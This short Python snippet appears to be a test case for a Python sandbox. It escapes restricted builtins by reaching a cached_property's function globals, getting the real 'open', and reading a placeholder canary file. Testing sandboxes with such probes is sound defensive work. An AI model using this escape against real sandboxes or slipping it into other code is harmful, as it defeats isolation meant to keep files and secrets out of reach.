# what: takes the function of a cached property
import functools
import ipaddress

cached = next(v for v in vars(ipaddress._BaseNetwork).values() if isinstance(v, functools.cached_property))
cached.func.__globals__["__builtins__"]["open"](CANARY_PATH).read()
